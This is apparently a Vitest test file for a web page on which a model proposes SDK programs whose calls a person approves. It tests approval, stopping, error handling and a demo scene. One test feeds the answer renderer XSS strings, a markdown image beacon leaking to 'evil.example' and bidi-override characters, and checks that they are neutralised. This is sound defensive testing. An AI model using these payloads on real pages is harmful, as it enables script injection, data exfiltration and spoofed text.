// @vitest-environment happy-dom
import { cleanup, configure, fireEvent, render, screen, waitFor, within } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import { approving } from '../testing/fakeGo'
import { type fakeModel, wireError } from '../testing/fakeModel'
import { ask, byHeart, card, program, request, show } from '../testing/showPage'
import { Answer } from './Answer'
import { App } from './App'

// A machine that is busy with other tests takes longer than the second that is usual.
configure({ asyncUtilTimeout: 20_000 })
afterEach(cleanup)

describe('the page', () => {
  it('shows request, program, calls as they wait and run, result, log and answer', async () => {
    const { answer, decide } = card()
    await show({ decide })
    ask(request)

    const run = await screen.findByRole('article', { name: 'Program: Waiting for your approval' })
    expect(within(screen.getByRole('main')).getByText(request)).toBeTruthy()
    expect(screen.getByText('Let me see.')).toBeTruthy()
    expect(within(run).getByRole('figure', { name: 'Program' }).textContent).toBe(program.replaceAll('\n', ''))
    expect(within(run).getAllByText('waits for you')).toHaveLength(2)
    await waitFor(() =>
      expect(screen.getByRole('status').textContent).toBe('2 calls wait for your approval, in a window of its own.'),
    )
    expect(screen.getByRole('button', { name: 'Stop' })).toBeTruthy()

    answer(0)
    const done = await screen.findByRole('article', { name: 'Program: Failed' })
    expect(within(done).getByText('rejected')).toBeTruthy()
    expect(within(done).getByText('found them')).toBeTruthy()
    await screen.findByText('cancelled')
    await waitFor(() => expect(screen.getByRole('status').textContent).toContain('Both are cancelled.'))
    expect(screen.getByRole('button', { name: 'Ask' })).toBeTruthy()
  })

  it('stops on the person’s word and takes the next request', async () => {
    const { log, requests } = await show({ decide: card().decide })
    ask(request)
    await screen.findByRole('article', { name: 'Program: Waiting for your approval' })
    fireEvent.click(screen.getByRole('button', { name: 'Stop' }))
    await screen.findByRole('article', { name: 'Program: Stopped' })
    await screen.findByRole('button', { name: 'Ask' })
    expect(log.at(-1)).toBe('ended aborted')
    expect(requests).toHaveLength(1)
    ask('Once more')
    await screen.findByText('Once more')
    await waitFor(() => expect(requests).toHaveLength(2))
    fireEvent.click(await screen.findByRole('button', { name: 'Stop' }))
  })

  it('has one button to stop from the request to the answer, through programs and what the model says of them', async () => {
    const { answer, decide } = card()
    await show({
      decide,
      says: (sent, n) => (sent.messages.at(-1)?.role === 'tool' ? { hold: { text: 'So far' } } : byHeart(sent, n)),
    })
    ask(request)
    const stop = await screen.findByRole('button', { name: 'Stop' })
    const seen = new Set<Element | null>()
    const watch = new MutationObserver(() => seen.add(document.querySelector('.ask-box button')))
    watch.observe(stop.parentElement as Element, { childList: true, subtree: true })
    await screen.findByRole('article', { name: 'Program: Waiting for your approval' })
    answer(0, 1)
    await screen.findByText('So far')
    expect(stop.isConnected).toBe(true)
    expect([...seen]).toEqual([])
    fireEvent.click(stop)
    await screen.findByRole('button', { name: 'Ask' })
  })

  it('explains itself before anything was asked, and offers the demo’s request', async () => {
    await show()
    expect(screen.getByText('What should be done?')).toBeTruthy()
    fireEvent.click(screen.getByRole('button', { name: request }))
    await screen.findByText('cancelled')
    expect(screen.queryByText('What should be done?')).toBeNull()
  })

  it('says honestly that it is a demo with one recorded request', async () => {
    await show()
    expect(screen.getByText('Offline demo')).toBeTruthy()
    expect(screen.getByText(/No model is set up yet/)).toBeTruthy()
  })

  it('offers the recorded request again after another one', async () => {
    const { requests } = await show({
      says: (sent, at) =>
        JSON.stringify(sent).includes(request) ? byHeart(sent, at) : { text: 'I know one request only.' },
    })
    ask('hello')
    await waitFor(() => expect(screen.getAllByText('I know one request only.').length).toBeGreaterThan(0))
    fireEvent.click(await screen.findByRole('button', { name: request }))
    await screen.findByText('cancelled')
    expect(requests).toHaveLength(3)
    expect(screen.queryByRole('button', { name: request })).toBeNull()
  })

  it('does not call a run done well in which everything was rejected', async () => {
    const each = program.replace('await sdk.orders.cancel({ id });', 'await sdk.orders.cancel({ id }).catch(() => {});')
    await show({
      decide: approving(),
      says: ({ messages }) => (messages.at(-1)?.role === 'tool' ? { text: 'Nothing was done.' } : { code: each }),
    })
    ask(request)
    const run = await screen.findByRole('article', { name: 'Program: Done, 2 calls rejected' })
    expect(run.querySelector('.run-head .mark-rejected')).toBeTruthy()
    expect(run.querySelector('.run-head .mark-ok')).toBeNull()
  })

  it('says beside a run that is done what of it was rejected', async () => {
    const each = program.replace('await sdk.orders.cancel({ id });', 'await sdk.orders.cancel({ id }).catch(() => {});')
    await show({
      decide: approving(0),
      says: ({ messages }) => (messages.at(-1)?.role === 'tool' ? { text: 'One of two.' } : { code: each }),
    })
    ask(request)
    const run = await screen.findByRole('article', { name: 'Program: Done, 1 call rejected' })
    expect(run.querySelector('.run-head .mark-ok')).toBeTruthy()
  })

  it('asks nothing while composing, with Shift, or without a text', async () => {
    const { requests } = await show()
    const box = screen.getByLabelText('Your request')
    fireEvent.keyDown(box, { key: 'Enter' })
    fireEvent.change(box, { target: { value: 'hi' } })
    fireEvent.keyDown(box, { key: 'Enter', shiftKey: true })
    fireEvent.keyDown(box, { key: 'Enter', isComposing: true })
    expect(requests).toHaveLength(0)
  })

  it('says why the model gave no answer, and asks it again', async () => {
    let broken = true
    await show({ says: () => (broken ? wireError(400, 'no such model') : { text: 'Here I am.' }) })
    ask('Hello?')
    const notice = await screen.findByRole('alert')
    expect(notice.textContent).toContain('no such model')
    broken = false
    fireEvent.click(within(notice).getByRole('button', { name: 'Try again' }))
    await waitFor(() => expect(screen.getAllByText('Here I am.').length).toBeGreaterThan(0))
    expect(screen.queryByRole('alert')).toBeNull()
  })

  it.each([
    ['no JSON', '{"code": "return'],
    ['another shape', '{"program":"return 1"}'],
  ])('says that no program was run when the model’s call is %s, and lets the model go on', async (_name, raw) => {
    const { operations, requests } = await show({
      says: ({ messages }) => (messages.at(-1)?.role === 'tool' ? { text: 'My mistake.' } : { raw }),
    })
    ask('Try')
    await screen.findByText('No program was run')
    await waitFor(() => expect(screen.getAllByText('My mistake.').length).toBeGreaterThan(0))
    expect(operations.runBegin).not.toHaveBeenCalled()
    expect(requests).toHaveLength(2)
  })

  it('says so, too, when the model calls a tool that there is not', async () => {
    await show({
      says: ({ messages }) =>
        messages.at(-1)?.role === 'tool' ? { text: 'Well.' } : { tool: 'browser', raw: '{"url":"x"}' },
    })
    ask('Try')
    await screen.findByText('The model called “browser”, which does not exist. It has been told so.')
    await waitFor(() => expect(screen.getAllByText('Well.').length).toBeGreaterThan(0))
  })

  it('folds a long list of calls, and says how the rest stands', async () => {
    const many = 'for (let i = 0; i < 60; i++) await sdk.orders.list({ status: "open" })'
    await show({ says: ({ messages }) => (messages.at(-1)?.role === 'tool' ? { text: 'Well.' } : { code: many }) })
    ask('Try')
    fireEvent.click(await screen.findByRole('button', { name: 'Show 35 more calls: 35 done' }))
    expect(document.querySelectorAll('.call')).toHaveLength(60)
  })

  it('points at the line of an error', async () => {
    await show({
      says: ({ messages }) =>
        messages.at(-1)?.role === 'tool' ? { text: 'Sorry.' } : { code: 'throw new TypeError("no")' },
    })
    ask('Try')
    const notice = await screen.findByRole('alert')
    expect(notice.textContent).toContain('TypeError: no')
  })
})

describe('a scene that plays by itself', () => {
  it('asks once, tells Go in order what it shows, and says when it is over', async () => {
    const { log, operations, requests } = await show({ auto: true })
    await waitFor(() => expect(operations.sceneDone).toHaveBeenCalledWith('ok'))
    expect(log.filter((line) => /^(request|program|rows|answer|status|error|scene)/.test(line))).toEqual([
      `request: ${request}`,
      'answer: Let me see.',
      `program: ${program}`,
      expect.stringMatching(/^rows: orders\.cancel\(\{ id: \d+ \}\)\norders\.cancel\(\{ id: \d+ \}\)$/),
      'status: ok',
      'answer: Both are **cancelled**.',
      'scene ok',
    ])
    expect(requests).toHaveLength(2)
    expect(operations.sceneDone).toHaveBeenCalledTimes(1)
  })

  it.each<[string, Parameters<typeof fakeModel>[0], string]>([
    ['the model fails', () => wireError(400, 'no'), 'error'],
    ['no program is written', () => ({ text: 'I would rather not.' }), 'error'],
    [
      'the program throws',
      ({ messages }) => (messages.at(-1)?.role === 'tool' ? { text: 'Oh.' } : { code: 'throw new Error("x")' }),
      'error',
    ],
  ])('ends with a status that says so when %s', async (_name, says, status) => {
    const { operations } = await show({ auto: true, says })
    await waitFor(() => expect(operations.sceneDone).toHaveBeenCalledWith(status))
  })
})

describe('without the app', () => {
  it('says where it belongs', () => {
    render(<App opening={undefined} />)
    expect(screen.getByRole('alert').textContent).toContain('belongs to the Countersign app')
  })

  it('says that it was refused, with the reason at hand', async () => {
    render(<App opening={Promise.reject(new Error('the secret is wrong'))} />)
    const alert = await screen.findByRole('alert')
    expect(alert.textContent).toContain('did not let this page in')
    expect(alert.textContent).toContain('the secret is wrong')
  })
})

describe('a model’s text', () => {
  const draw = (text: string) => render(<Answer text={text} />).container

  it('never becomes markup, a picture, or a way out of the page', () => {
    const place = draw(
      [
        '<img src=x onerror=alert(1)> <script>alert(1)</script>',
        '![pixel](https://evil.example/?leak)',
        '[a link](javascript:alert(1)) [another](https://evil.example/)',
        'https://evil.example/auto',
        '<iframe src="/"></iframe>',
      ].join('\n\n'),
    )
    expect(place.querySelectorAll('img, script, iframe, a, [href], [src], [style]')).toHaveLength(0)
    expect(place.textContent).toContain('<script>')
    expect(place.textContent).toContain('another (https://evil.example/)')
    expect(place.textContent).not.toContain('javascript:')
  })

  it('does not turn the direction of what is read; words of every script stay as they are', () => {
    const place = draw(
      [
        'a \u202Eevil b, **\u2066c**, [d\u202E](https://e.example/%E2%80%AE\u202Ef), `g\u202Eh`',
        '<b>\u202Ei</b>',
        '| \u202Ej |\n|--|\n| \u200Fk |',
        '```\nl\u202Em\n```',
        'שלום مرحبا 👩\u200D💻',
      ].join('\n\n'),
    )
    expect(place.textContent).not.toMatch(/\p{Bidi_Control}/u)
    for (const said of [
      'a \\u{202E}evil b',
      '\\u{2066}c',
      '\\u{202E}i',
      '\\u{202E}j',
      '\\u{200F}k',
      'g\\u{202E}h',
      'l\\u{202E}m',
    ])
      expect(place.textContent).toContain(said)
    expect(place.textContent).toContain('שלום مرحبا 👩\u200D💻')
  })

  it('keeps lists, tables, emphasis and code', () => {
    const place = draw('**bold**\n\n- one\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nconst a = 1\n```\n\n`inline`')
    expect(place.querySelector('strong')?.textContent).toBe('bold')
    expect(place.querySelector('li')?.textContent).toBe('one')
    expect(place.querySelectorAll('td')).toHaveLength(2)
    expect(place.querySelector('figure .hljs-keyword')?.textContent).toBe('const')
    expect(place.querySelector('p > code')?.textContent).toBe('inline')
    expect(place.querySelectorAll('button[aria-label="Copy the code"]')).toHaveLength(1)
  })
})
